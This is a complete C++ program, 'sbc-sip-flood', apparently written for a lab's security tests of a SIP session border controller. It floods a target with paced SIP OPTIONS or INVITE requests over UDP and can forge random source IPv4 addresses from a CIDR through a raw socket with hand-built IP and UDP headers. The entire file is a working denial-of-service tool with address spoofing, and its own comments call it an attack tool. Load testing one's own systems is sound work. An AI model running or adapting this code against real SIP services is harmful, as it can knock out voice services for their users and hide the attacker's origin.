// sbc-sip-flood: paced SIP request flood over UDP, for the lab's security tests (a program, not a
// test). Sends syntactically valid OPTIONS or INVITE requests, each with its own Call-ID, branch
// and From tag, at a given rate, bounded by a count and a duration:
//   - from one source through an ordinary UDP socket (responses are drained and counted), or
//   - from many spoofed IPv4 sources drawn at random from a CIDR, through a raw socket with
//     IP_HDRINCL (IPv4 and UDP checksums computed here).
// Pacing is a token bucket on CLOCK_MONOTONIC; packets leave in sendmmsg batches. Only ever run it
// inside network namespaces you own (the lab's caller namespace): it is an attack tool.
//
//   sbc-sip-flood --target 192.0.2.1:5060 [--rate 10000] [--duration 5] [--count N]
//                 [--method OPTIONS|INVITE] [--source 192.0.2.66[:PORT]]
//                 [--spoof 203.0.113.0/24 [--source-port 5060]] [--batch 32]
//                 [--user-agent TEXT] [--to-user USER] [--json]
#include <arpa/inet.h>
#include <errno.h>
#include <fmt/format.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <charconv>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <expected>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

namespace sbc::flood {
namespace {

constexpr size_t kMaxBatch = 256;
constexpr size_t kPacketBytes = 1500;  // one Ethernet MTU: IPv4 + UDP + the request
constexpr size_t kHeadroom = sizeof(iphdr) + sizeof(udphdr);
constexpr uint64_t kMaxRate = 10'000'000;
constexpr uint32_t kMaxDurationS = 3600;
constexpr int kExitUsage = 64;
constexpr double kCatchUpS = 0.02;  // the pacer's burst allowance

struct Endpoint {
  in_addr_t address = 0;  // network byte order
  uint16_t port = 0;      // host byte order
};

struct Cidr {
  uint32_t network = 0;  // host byte order, host bits clear
  uint8_t prefix = 32;
  // Usable host addresses: a /31 or /32 uses every address, larger ones skip network/broadcast.
  [[nodiscard]] uint64_t hosts() const {
    const uint64_t size = uint64_t{1} << (32 - prefix);
    return size <= 2 ? size : size - 2;
  }
  [[nodiscard]] uint32_t host(uint64_t index) const {
    const uint64_t size = uint64_t{1} << (32 - prefix);
    return network + static_cast<uint32_t>(size <= 2 ? index : index + 1);
  }
};

struct Options {
  Endpoint target;
  std::string method = "OPTIONS";
  uint64_t rate = 10'000;
  double duration_s = 5;
  std::optional<uint64_t> count;
  std::optional<Endpoint> source;  // single-source mode: bind here (port 0: ephemeral)
  std::optional<Cidr> spoof;       // spoofed mode: sources drawn from here
  uint16_t spoof_port = 5060;
  size_t batch = 32;
  std::string user_agent = "sbc-sip-flood";
  std::string to_user = "flood";
  bool json = false;
};

std::string ip_text(in_addr_t address) {
  char text[INET_ADDRSTRLEN] = {};
  inet_ntop(AF_INET, &address, text, sizeof text);
  return text;
}

std::expected<in_addr_t, std::string> parse_ipv4(std::string_view text) {
  const std::string copy(text);
  in_addr a{};
  if (inet_pton(AF_INET, copy.c_str(), &a) != 1) {
    return std::unexpected(fmt::format("'{}' is not an IPv4 address", text));
  }
  return a.s_addr;
}

template <typename T>
std::expected<T, std::string> parse_number(std::string_view text, T min, T max) {
  T value{};
  const auto [end, ec] = std::from_chars(text.data(), text.data() + text.size(), value);
  if (ec != std::errc{} || end != text.data() + text.size() || value < min || value > max) {
    return std::unexpected(fmt::format("'{}' is not a number from {} to {}", text, min, max));
  }
  return value;
}

// "a.b.c.d:port", or a bare address when `port_optional` (port 0).
std::expected<Endpoint, std::string> parse_endpoint(std::string_view text, bool port_optional) {
  const size_t colon = text.rfind(':');
  if (colon == std::string_view::npos) {
    if (!port_optional) return std::unexpected(fmt::format("'{}' lacks a :port", text));
    auto address = parse_ipv4(text);
    if (!address) return std::unexpected(address.error());
    return Endpoint{*address, 0};
  }
  auto address = parse_ipv4(text.substr(0, colon));
  if (!address) return std::unexpected(address.error());
  auto port = parse_number<uint16_t>(text.substr(colon + 1), port_optional ? 0 : 1, 65535);
  if (!port) return std::unexpected(port.error());
  return Endpoint{*address, *port};
}

std::expected<Cidr, std::string> parse_cidr(std::string_view text) {
  const size_t slash = text.find('/');
  auto address = parse_ipv4(text.substr(0, slash));
  if (!address) return std::unexpected(address.error());
  uint8_t prefix = 32;
  if (slash != std::string_view::npos) {
    auto p = parse_number<uint8_t>(text.substr(slash + 1), 8, 32);
    if (!p) return std::unexpected(fmt::format("prefix length: {}", p.error()));
    prefix = *p;
  }
  const uint32_t host_order = ntohl(*address);
  const uint32_t mask = prefix == 0 ? 0 : ~uint32_t{0} << (32 - prefix);
  if ((host_order & ~mask) != 0) {
    return std::unexpected(fmt::format("'{}' has host bits set", text));
  }
  return Cidr{host_order, prefix};
}

constexpr std::string_view kUsage =
    "usage: sbc-sip-flood --target IP:PORT [--rate N/s] [--duration S] [--count N]\n"
    "                     [--method OPTIONS|INVITE] [--source IP[:PORT]]\n"
    "                     [--spoof CIDR [--source-port PORT]] [--batch N]\n"
    "                     [--user-agent TEXT] [--to-user USER] [--json]\n"
    "Sends SIP requests over UDP at --rate (default 10000/s) until --duration (default 5 s) or\n"
    "--count requests, whichever comes first. --spoof: raw socket, a random source address of\n"
    "CIDR (/8../32) per request (needs CAP_NET_RAW). Use only in namespaces you own.\n";

std::expected<Options, std::string> parse_options(int argc, char** argv) {
  Options o;
  bool have_target = false;
  for (int i = 1; i < argc; ++i) {
    const std::string_view arg = argv[i];
    if (arg == "--json") {
      o.json = true;
      continue;
    }
    if (i + 1 >= argc) return std::unexpected(fmt::format("{} needs a value (or is unknown)", arg));
    const std::string_view value = argv[++i];
    std::expected<void, std::string> ok;
    auto take = [&](auto parsed, auto& into) {
      if (parsed) {
        into = *parsed;
      } else {
        ok = std::unexpected(fmt::format("{}: {}", arg, parsed.error()));
      }
    };
    if (arg == "--target") {
      take(parse_endpoint(value, false), o.target);
      have_target = true;
    } else if (arg == "--rate") {
      take(parse_number<uint64_t>(value, 1, kMaxRate), o.rate);
    } else if (arg == "--duration") {
      take(parse_number<uint32_t>(value, 1, kMaxDurationS), o.duration_s);
    } else if (arg == "--count") {
      take(parse_number<uint64_t>(value, 1, uint64_t{1} << 40), o.count);
    } else if (arg == "--method") {
      if (value != "OPTIONS" && value != "INVITE") {
        ok = std::unexpected("--method: OPTIONS or INVITE");
      }
      o.method = value;
    } else if (arg == "--source") {
      take(parse_endpoint(value, true), o.source);
    } else if (arg == "--spoof") {
      take(parse_cidr(value), o.spoof);
    } else if (arg == "--source-port") {
      take(parse_number<uint16_t>(value, 1, 65535), o.spoof_port);
    } else if (arg == "--batch") {
      take(parse_number<size_t>(value, 1, kMaxBatch), o.batch);
    } else if (arg == "--user-agent") {
      o.user_agent = value;
    } else if (arg == "--to-user") {
      o.to_user = value;
    } else {
      return std::unexpected(fmt::format("unknown option {}", arg));
    }
    if (!ok) return std::unexpected(ok.error());
  }
  if (!have_target) return std::unexpected("--target is required");
  if (o.source && o.spoof) return std::unexpected("--source and --spoof exclude each other");
  // Header values we write verbatim: no line breaks or other control characters.
  for (std::string_view text : {std::string_view(o.user_agent), std::string_view(o.to_user)}) {
    const auto control = [](unsigned char c) { return c < 0x20 || c == 0x7f; };
    if (text.empty() || text.size() > 200 || std::any_of(text.begin(), text.end(), control)) {
      return std::unexpected("--user-agent / --to-user: 1..200 printable characters");
    }
  }
  return o;
}

// xorshift64*: fast, good enough to spread spoofed sources and make tags unique per run.
class Random {
 public:
  Random() {
    if (getrandom(&state_, sizeof state_, 0) != sizeof state_ || state_ == 0) {
      state_ = 0x9E3779B97F4A7C15ull ^ static_cast<uint64_t>(getpid());
    }
  }
  uint64_t next() {
    state_ ^= state_ >> 12;
    state_ ^= state_ << 25;
    state_ ^= state_ >> 27;
    return state_ * 0x2545F4914F6CDD1Dull;
  }

 private:
  uint64_t state_ = 0;
};

double now_s() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + static_cast<double>(ts.tv_nsec) * 1e-9;
}

void sleep_s(double seconds) {
  if (seconds <= 0) return;
  const auto whole = static_cast<time_t>(seconds);
  const auto nanos = static_cast<long>((seconds - static_cast<double>(whole)) * 1e9);
  timespec ts{whole, nanos};
  while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
  }
}

// Token bucket: `rate` tokens per second, at most `depth` saved up. The depth credits the time a
// sleep overshoots or the scheduler keeps us off the CPU (else the achieved rate falls short of
// the asked one on a busy box), while a stalled sender catches up with at most that burst.
class Pacer {
 public:
  Pacer(double rate, double depth, double start) : rate_(rate), depth_(depth), last_(start) {}
  // Blocks until `want` tokens are there (want <= depth), then takes them.
  void take(double want) {
    for (;;) {
      const double now = now_s();
      tokens_ = std::min(depth_, tokens_ + (now - last_) * rate_);
      last_ = now;
      if (tokens_ >= want) {
        tokens_ -= want;
        return;
      }
      sleep_s((want - tokens_) / rate_);
    }
  }

 private:
  double rate_;
  double depth_;
  double tokens_ = 0;  // empty at the start: the first batch already waits its turn
  double last_;
};

// Writes one request into `out`; returns its length (0 if it would not fit).
size_t write_request(const Options& o, uint64_t run, uint64_t seq, std::string_view src,
                     uint16_t sport, char* out, size_t room) {
  const std::string target = ip_text(o.target.address);
  std::string body;
  if (o.method == "INVITE") {
    body = fmt::format(
        "v=0\r\no=flood {0} {0} IN IP4 {1}\r\ns=-\r\nc=IN IP4 {1}\r\nt=0 0\r\n"
        "m=audio 4000 RTP/AVP 0\r\na=rtpmap:0 PCMU/8000\r\n",
        seq, src);
  }
  const auto result = fmt::format_to_n(
      out, room,
      "{0} sip:{1}@{2}:{3} SIP/2.0\r\n"
      "Via: SIP/2.0/UDP {4}:{5};branch=z9hG4bK{6:016x}.{7:x};rport\r\n"
      "Max-Forwards: 70\r\n"
      "From: <sip:flood@{4}>;tag={6:016x}.{7:x}\r\n"
      "To: <sip:{1}@{2}>\r\n"
      "Call-ID: {6:016x}-{7:x}@{4}\r\n"
      "CSeq: 1 {0}\r\n"
      "Contact: <sip:flood@{4}:{5}>\r\n"
      "User-Agent: {8}\r\n"
      "{9}"
      "Content-Length: {10}\r\n\r\n{11}",
      o.method, o.to_user, target, o.target.port, src, sport, run, seq, o.user_agent,
      body.empty() ? "Accept: application/sdp\r\n" : "Content-Type: application/sdp\r\n",
      body.size(), body);
  return result.size <= room ? result.size : 0;
}

uint16_t checksum_fold(uint64_t sum) {
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<uint16_t>(~sum & 0xffff);
}

uint64_t sum_bytes(const uint8_t* data, size_t len, uint64_t sum = 0) {
  for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t{data[i]} << 8) | data[i + 1];
  if (len & 1) sum += uint32_t{data[len - 1]} << 8;
  return sum;
}

// IPv4 + UDP headers in front of `payload_len` bytes already at packet + kHeadroom; both
// checksums computed (RFC 768 pseudo-header; a zero UDP checksum is sent as 0xffff).
size_t frame_udp(uint8_t* packet, size_t payload_len, uint32_t saddr_host, uint16_t sport,
                 const Endpoint& dst, uint16_t ip_id) {
  const size_t udp_len = sizeof(udphdr) + payload_len;
  auto* ip = reinterpret_cast<iphdr*>(packet);
  auto* udp = reinterpret_cast<udphdr*>(packet + sizeof(iphdr));
  *ip = iphdr{};
  ip->version = 4;
  ip->ihl = 5;
  ip->tot_len = htons(static_cast<uint16_t>(sizeof(iphdr) + udp_len));
  ip->id = htons(ip_id);
  ip->frag_off = htons(IP_DF);
  ip->ttl = 64;
  ip->protocol = IPPROTO_UDP;
  ip->saddr = htonl(saddr_host);
  ip->daddr = dst.address;
  ip->check = htons(checksum_fold(sum_bytes(packet, sizeof(iphdr))));
  udp->source = htons(sport);
  udp->dest = htons(dst.port);
  udp->len = htons(static_cast<uint16_t>(udp_len));
  udp->check = 0;
  uint64_t sum = sum_bytes(reinterpret_cast<const uint8_t*>(&ip->saddr), 8);  // saddr + daddr
  sum += IPPROTO_UDP + udp_len;
  sum = sum_bytes(reinterpret_cast<const uint8_t*>(udp), udp_len, sum);
  const uint16_t check = checksum_fold(sum);
  udp->check = htons(check == 0 ? 0xffff : check);
  return sizeof(iphdr) + udp_len;
}

struct Totals {
  uint64_t sent = 0;
  uint64_t send_errors = 0;
  uint64_t responses = 0;
  double elapsed_s = 0;
  std::string last_error;
};

class Flooder {
 public:
  explicit Flooder(const Options& o) : o_(o), buffers_(kMaxBatch * kPacketBytes) {
    run_id_ = random_.next();
  }

  std::expected<void, std::string> open() {
    if (o_.spoof) {
      fd_ = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
      if (fd_ < 0) return std::unexpected(fmt::format("raw socket: {}", strerror(errno)));
      const int on = 1;
      if (setsockopt(fd_, IPPROTO_IP, IP_HDRINCL, &on, sizeof on) != 0) {
        return std::unexpected(fmt::format("IP_HDRINCL: {}", strerror(errno)));
      }
    } else {
      fd_ = socket(AF_INET, SOCK_DGRAM, 0);
      if (fd_ < 0) return std::unexpected(fmt::format("UDP socket: {}", strerror(errno)));
      sockaddr_in local{};
      local.sin_family = AF_INET;
      if (o_.source) {
        local.sin_addr.s_addr = o_.source->address;
        local.sin_port = htons(o_.source->port);
      }
      if (bind(fd_, reinterpret_cast<sockaddr*>(&local), sizeof local) != 0) {
        return std::unexpected(fmt::format("bind {}:{}: {}", ip_text(local.sin_addr.s_addr),
                                           ntohs(local.sin_port), strerror(errno)));
      }
      // The Via must name the address the kernel picks: connect() once to learn it, then undo.
      sockaddr_in dst = destination();
      socklen_t len = sizeof local;
      if (connect(fd_, reinterpret_cast<sockaddr*>(&dst), sizeof dst) != 0 ||
          getsockname(fd_, reinterpret_cast<sockaddr*>(&local), &len) != 0) {
        return std::unexpected(
            fmt::format("no route to {}: {}", ip_text(o_.target.address), strerror(errno)));
      }
      sockaddr unspec{};
      unspec.sa_family = AF_UNSPEC;
      connect(fd_, &unspec, sizeof unspec);
      source_text_ = ip_text(local.sin_addr.s_addr);
      source_port_ = ntohs(local.sin_port);
    }
    const int sndbuf = 4 << 20;
    setsockopt(fd_, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
    return {};
  }

  ~Flooder() {
    if (fd_ >= 0) close(fd_);
  }
  Flooder(const Flooder&) = delete;
  Flooder& operator=(const Flooder&) = delete;

  std::expected<Totals, std::string> run() {
    Totals t;
    const double start = now_s();
    const double deadline = start + o_.duration_s;
    const uint64_t limit = o_.count.value_or(UINT64_MAX);
    // Two batches, or 20 ms of sending when that is more (scheduler time slices on a busy box).
    const double depth =
        std::max(2.0 * static_cast<double>(o_.batch), static_cast<double>(o_.rate) * kCatchUpS);
    Pacer pacer(static_cast<double>(o_.rate), depth, start);
    std::array<mmsghdr, kMaxBatch> msgs{};
    std::array<iovec, kMaxBatch> iovs{};
    sockaddr_in dst = destination();
    uint64_t seq = 0;
    while (seq < limit && now_s() < deadline) {
      const size_t n = static_cast<size_t>(std::min<uint64_t>(o_.batch, limit - seq));
      pacer.take(static_cast<double>(n));
      for (size_t i = 0; i < n; ++i, ++seq) {
        uint8_t* packet = &buffers_[i * kPacketBytes];
        size_t len = 0;
        if (o_.spoof) {
          const uint32_t saddr = o_.spoof->host(random_.next() % o_.spoof->hosts());
          const std::string src = ip_text(htonl(saddr));
          const size_t payload =
              write_request(o_, run_id_, seq, src, o_.spoof_port,
                            reinterpret_cast<char*>(packet + kHeadroom), kPacketBytes - kHeadroom);
          if (payload == 0) return std::unexpected("request larger than one packet");
          len = frame_udp(packet, payload, saddr, o_.spoof_port, o_.target,
                          static_cast<uint16_t>(seq));
        } else {
          len = write_request(o_, run_id_, seq, source_text_, source_port_,
                              reinterpret_cast<char*>(packet), kPacketBytes);
          if (len == 0) return std::unexpected("request larger than one packet");
        }
        iovs[i] = iovec{packet, len};
        msgs[i].msg_hdr = msghdr{};
        msgs[i].msg_hdr.msg_name = &dst;
        msgs[i].msg_hdr.msg_namelen = sizeof dst;
        msgs[i].msg_hdr.msg_iov = &iovs[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
      }
      if (auto sent = send_batch(msgs.data(), n, t); !sent) return std::unexpected(sent.error());
      if (!o_.spoof) t.responses += drain();
    }
    t.elapsed_s = now_s() - start;
    if (!o_.spoof) {
      sleep_s(0.2);  // responses to the last batch
      t.responses += drain();
    }
    return t;
  }

  [[nodiscard]] std::string source_description() const {
    if (o_.spoof) {
      return fmt::format("{}/{} (spoofed, port {})", ip_text(htonl(o_.spoof->network)),
                         o_.spoof->prefix, o_.spoof_port);
    }
    return fmt::format("{}:{}", source_text_, source_port_);
  }

 private:
  sockaddr_in destination() const {
    sockaddr_in dst{};
    dst.sin_family = AF_INET;
    dst.sin_addr.s_addr = o_.target.address;
    dst.sin_port = htons(o_.target.port);
    return dst;
  }

  // Transient errors (full queues, an ICMP error reported late) are counted and the datagram
  // skipped; anything else ends the run.
  std::expected<void, std::string> send_batch(mmsghdr* msgs, size_t n, Totals& t) {
    size_t done = 0;
    while (done < n) {
      const int r = sendmmsg(fd_, msgs + done, static_cast<unsigned>(n - done), 0);
      if (r > 0) {
        done += static_cast<size_t>(r);
        t.sent += static_cast<uint64_t>(r);
        continue;
      }
      if (r < 0 && errno == EINTR) continue;
      const int e = r < 0 ? errno : EIO;
      if (e != ENOBUFS && e != EAGAIN && e != ECONNREFUSED && e != EHOSTUNREACH) {
        return std::unexpected(fmt::format("sendmmsg: {}", strerror(e)));
      }
      t.last_error = strerror(e);
      ++t.send_errors;
      ++done;
    }
    return {};
  }

  uint64_t drain() {
    std::array<mmsghdr, 64> msgs{};
    std::array<iovec, 64> iovs{};
    std::array<char, 64 * 2048> space;  // NOLINT: scratch, contents never read
    uint64_t total = 0;
    for (int round = 0; round < 64; ++round) {  // bounded: the send loop must keep its pace
      for (size_t i = 0; i < msgs.size(); ++i) {
        iovs[i] = iovec{&space[i * 2048], 2048};
        msgs[i].msg_hdr = msghdr{};
        msgs[i].msg_hdr.msg_iov = &iovs[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
      }
      const int r = recvmmsg(fd_, msgs.data(), msgs.size(), MSG_DONTWAIT, nullptr);
      if (r <= 0) break;
      total += static_cast<uint64_t>(r);
    }
    return total;
  }

  const Options& o_;
  std::vector<uint8_t> buffers_;
  Random random_;
  uint64_t run_id_ = 0;
  int fd_ = -1;
  std::string source_text_;
  uint16_t source_port_ = 0;
};

int run_main(int argc, char** argv) {
  auto options = parse_options(argc, argv);
  if (!options) {
    fmt::print(stderr, "sbc-sip-flood: {}\n{}", options.error(), kUsage);
    return kExitUsage;
  }
  const Options& o = *options;
  Flooder flooder(o);
  if (auto opened = flooder.open(); !opened) {
    fmt::print(stderr, "sbc-sip-flood: {}\n", opened.error());
    return 1;
  }
  auto totals = flooder.run();
  if (!totals) {
    fmt::print(stderr, "sbc-sip-flood: {}\n", totals.error());
    return 1;
  }
  const Totals& t = *totals;
  const double achieved = t.elapsed_s > 0 ? static_cast<double>(t.sent) / t.elapsed_s : 0;
  const std::string target = fmt::format("{}:{}", ip_text(o.target.address), o.target.port);
  if (o.json) {
    fmt::print(
        "{{\"mode\": \"{}\", \"method\": \"{}\", \"target\": \"{}\", \"source\": \"{}\", "
        "\"requested_rate\": {}, \"sent\": {}, \"send_errors\": {}, \"responses\": {}, "
        "\"elapsed_s\": {:.3f}, \"achieved_rate\": {:.0f}}}\n",
        o.spoof ? "spoofed" : "single", o.method, target, flooder.source_description(), o.rate,
        t.sent, t.send_errors, o.spoof ? -1 : static_cast<int64_t>(t.responses), t.elapsed_s,
        achieved);
  } else {
    fmt::print("sent {} {} requests to {} from {} in {:.3f} s: {:.0f} req/s (asked {}/s)\n", t.sent,
               o.method, target, flooder.source_description(), t.elapsed_s, achieved, o.rate);
    if (t.send_errors) fmt::print("send errors: {} (last: {})\n", t.send_errors, t.last_error);
    if (!o.spoof) fmt::print("responses received: {}\n", t.responses);
  }
  return 0;
}

}  // namespace
}  // namespace sbc::flood

int main(int argc, char** argv) {
  return sbc::flood::run_main(argc, argv);
}
